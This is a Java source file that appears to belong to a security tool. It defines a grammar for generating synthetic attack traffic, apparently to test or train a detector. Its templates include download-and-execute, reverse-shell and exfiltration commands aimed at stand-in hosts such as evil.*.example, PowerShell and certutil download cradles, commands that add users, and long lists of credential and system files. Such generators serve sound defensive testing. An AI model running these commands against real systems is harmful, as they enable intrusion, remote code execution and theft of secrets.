package ai.kongguard.traffic.attack;

import ai.kongguard.traffic.attack.grammar.Grammar;

/** What attacks of every type name: plausible values, hosts of documentation ranges, files, commands. */
final class Vocabulary {

    static final Grammar GRAMMAR = Grammar.parse(
            """
            value ::=
              5×«1..9999»
              3×«word»
              2×«word» «word»
              «letters 1..8»
              «word»-«1..999»
              «word»_«word»
              «1..99».«0..99»
              «letters 3..8»@«host»
              «hex 8..32»
              20«10..29»-0«1..9»-«10..28»
              «true¦false¦null¦en¦de¦all¦asc¦desc»
              «»
            word ::=
              «report¦invoice¦summer¦garden¦blue¦red¦phone¦camera¦lens¦chair¦table¦shirt¦shoes¦coffee¦guitar»
              «user¦admin¦guest¦test¦demo¦anna¦john¦maria¦peter¦smith¦berlin¦london¦paris¦tokyo»
              «image¦photo¦document¦backup¦archive¦index¦home¦default¦main¦list¦item¦order¦product¦news»
              «letters 3..9»
            name ::=
              «letters 1..6»
              «letters 2..5»_«letters 2..4»
              «word¦x¦y¦z¦a¦b¦foo¦bar¦tmp¦data¦r¦poc¦pwn¦t»
              «letters 2..6»«0..99»
            host ::=
              «letters 3..10».«example¦example.com¦example.net¦example.org¦test¦invalid»
              «hex 8..32».«oast¦collab¦dns¦log¦cb¦x¦callback».«example¦example.net¦test»
              «www¦evil¦attacker¦cdn¦static¦api¦x¦a¦out».«letters 3..8».«example¦test¦example.com»
              «letters 2..4»«0..999».«example.com¦example.org¦test»
            ip ::=
              2×«198.51.100¦203.0.113¦192.0.2».«1..254»
              10.«0..255».«0..255».«1..254»
              192.168.«0..255».«1..254»
              172.«16..31».«0..255».«1..254»
              127.0.0.1
            port ::=
              «80¦443¦8080¦8443¦8000¦8888¦3000¦5000¦9000¦4444¦1337¦9001¦1234¦31337»
              «1024..65535»
            server ::=
              2×«host»
              «ip»
              «host»:«port»
              «ip»:«port»
            url ::=
              «http¦https»://«server»/«name»
              «http¦https»://«server»/«name».«txt¦js¦sh¦php¦html¦xml¦dtd¦jpg»
              «http¦https»://«server»/?«name»=«alnum 3..16»
              «http¦https»://«server»
              http://«server»/«name»/«name»
            secs ::=
              «5¦10¦3¦7¦15¦20¦30»
              «2..60»
            user ::=
              «admin¦administrator¦root¦user¦test¦guest¦manager¦sa¦superuser¦operator¦support»
              «word»
              «letters 3..8»
            secret_file ::=
              5×etc/passwd
              2×etc/shadow
              etc/«hosts¦group¦hostname¦issue¦motd¦fstab¦resolv.conf¦crontab¦sudoers¦profile¦mtab¦os-release¦services»
              etc/«nginx/nginx.conf¦nginx/sites-enabled/default¦apache2/apache2.conf¦httpd/conf/httpd.conf»
              etc/«ssh/sshd_config¦ssh/ssh_host_rsa_key¦mysql/my.cnf¦my.cnf¦php.ini¦php/7.4/apache2/php.ini»
              etc/«redis/redis.conf¦postgresql/«9..16»/main/pg_hba.conf¦ldap/ldap.conf¦samba/smb.conf¦rsyncd.conf»
              proc/«self¦1¦«2..4000»»/«environ¦cmdline¦maps¦status¦mounts¦cwd/app.py¦fd/«0..30»¦root/etc/passwd¦exe»
              proc/«version¦cpuinfo¦net/tcp¦net/arp¦mounts¦sched_debug¦net/fib_trie»
              var/log/«auth.log¦syslog¦messages¦secure¦dpkg.log¦mail.log¦lastlog¦wtmp»
              var/log/«apache2¦httpd¦nginx¦apache»/«access¦error»«.log¦_log¦.log.1»
              var/www/«html¦«word»»/«index.php¦config.php¦.env¦.htpasswd¦wp-config.php¦config/database.yml»
              «root¦home/«word»¦home/ubuntu¦home/git»/.«ssh/id_rsa¦ssh/authorized_keys¦ssh/id_ed25519¦bash_history¦bashrc»
              «root¦home/«word»¦home/ec2-user»/.«aws/credentials¦kube/config¦docker/config.json¦netrc¦my.cnf¦npmrc»
              var/run/secrets/kubernetes.io/serviceaccount/«token¦namespace¦ca.crt»
              usr/local/«etc/php/php.ini¦tomcat/conf/tomcat-users.xml¦apache2/conf/httpd.conf¦lib/python3.9/os.py»
              opt/«tomcat/conf/«web.xml¦tomcat-users.xml¦server.xml»¦«word»/config.yml¦«word»/.env»
              «letters 2..6»/«letters 3..8».«conf¦txt¦log¦ini¦yml¦bak»
            windows_file ::=
              3×«windows¦winnt»\\win.ini
              boot.ini
              windows\\system32\\drivers\\etc\\«hosts¦services¦networks»
              windows\\system32\\config\\«SAM¦SYSTEM¦SECURITY¦software¦AppEvent.Evt»
              windows\\«system.ini¦repair\\SAM¦repair\\system¦debug\\NetSetup.log¦php.ini¦explorer.exe¦notepad.exe»
              windows\\«panther\\unattend.xml¦panther\\sysprep.inf¦WindowsUpdate.log¦system32\\license.rtf»
              inetpub\\«wwwroot\\web.config¦wwwroot\\index.asp¦logs\\LogFiles\\W3SVC1\\u_ex«210101..261231».log»
              «xampp\\apache\\conf\\httpd.conf¦xampp\\mysql\\bin\\my.ini¦xampp\\phpMyAdmin\\config.inc.php»
              «Users¦Documents and Settings»\\«Administrator¦«word»»\\«NTUser.dat¦Desktop\\desktop.ini¦.ssh\\id_rsa»
              Program Files\\«word»\\«appsettings.json¦config.xml¦web.config¦«letters 3..7».ini»
            unix_command ::=
              3×«id¦whoami¦uname -a¦pwd¦hostname¦ls¦ps aux¦env¦w¦ifconfig¦netstat -an¦set¦printenv¦uptime¦date¦groups»
              2×«cat¦head¦tail¦more¦less¦nl¦tac¦od -c¦strings¦head -n «1..9»¦sort¦grep root¦xxd¦base64» /«secret_file»
              «ls¦dir¦ls -la¦ls -l¦ls -R¦find» /«¦etc¦tmp¦home¦var/www¦root¦«word»»
              «ping -c «1..20»¦ping -n -c «1..9»¦traceroute¦host¦dig¦nslookup» ««host»¦«ip»»
              «curl¦curl -s¦curl -k¦wget -q¦wget¦wget -O-¦curl -sSL¦lynx -dump» «url»
              «curl¦wget -qO-» «url»«sp»|«sp»«sh¦bash¦python¦perl»
              wget «url» -O /tmp/«name»«;¦ && »chmod «777¦+x» /tmp/«name»
              echo «alnum 4..20»«¦ > /tmp/«name».txt¦ >> /var/www/html/«name».php»
              «sleep «secs»¦rm -rf /tmp/«name»¦touch /tmp/«name»¦kill -9 «100..9999»¦mkdir /tmp/«name»¦which «nc¦python¦gcc»»
              «python¦python3» -c '«import os;os.system("«id¦whoami»")¦print(«10..99»*«10..99»)»'
              «perl -e¦ruby -e» '«print¦puts» «10..999»*«10..999»'
              php -r '«echo md5("«letters 2..6»");¦phpinfo();¦system("id");»'
              «nc¦ncat¦netcat» ««host»¦«ip»» «port»«¦ -e /bin/sh¦ < /etc/passwd»
              find / -name «letters 3..6».«conf¦txt¦log¦php»«¦ -exec cat {} \\;¦ 2>/dev/null»
              «grep -r password /var/www¦cat .env¦cat ../config.php¦cat ~/.ssh/id_rsa¦crontab -l¦sudo -l¦last¦history»
              /«bin¦usr/bin»/«id¦ls¦cat /etc/passwd¦uname -a¦whoami¦env»
            windows_command ::=
              3×«whoami¦dir¦ver¦ipconfig¦ipconfig /all¦systeminfo¦tasklist¦net user¦hostname¦set¦netstat -ano¦whoami /priv»
              type «¦c:\\¦C:\\»«windows_file»
              dir «¦/s ¦/b »«c:\\¦C:\\inetpub¦..¦C:\\Users»
              net «user¦localgroup administrators¦view¦user «name» «alnum 6..10» /add¦start¦share¦accounts»
              «ping -n «1..20»¦nslookup¦tracert» ««host»¦«ip»»
              powershell«.exe¦» -«c¦Command» «?"»«Get-Process¦Get-ChildItem C:\\¦whoami¦iwr «url» -OutFile «name».exe»«?"»
              powershell -«nop ¦w hidden ¦NoP -NonI »-«e¦enc¦EncodedCommand» «@base64wide «whoami¦ipconfig¦dir C:\\¦iex(iwr «url»)»»
              powershell IEX(New-Object Net.WebClient).DownloadString('«url»')
              «certutil -urlcache -split -f «url» «name».exe¦bitsadmin /transfer «name» «url» c:\\«name».exe»
              «cmd¦cmd.exe¦C:\\Windows\\System32\\cmd.exe» /c «whoami¦dir¦echo «alnum 3..9»¦ver¦type «windows_file»»
              «reg query HKLM\\SOFTWARE\\«word»¦wmic process list brief¦sc query¦schtasks /query¦mshta «url»¦regsvr32 /s /i:«url» scrobj.dll»
              «timeout /t «secs»¦ping -n «2..30» 127.0.0.1¦start-sleep -s «secs»¦waitfor /t «secs» «name»»
              echo «alnum 4..16»«¦ > «name».txt¦>>C:\\inetpub\\wwwroot\\«name».asp»
            command ::=
              3×«unix_command»
              «windows_command»
            """);

    private Vocabulary() {}
}
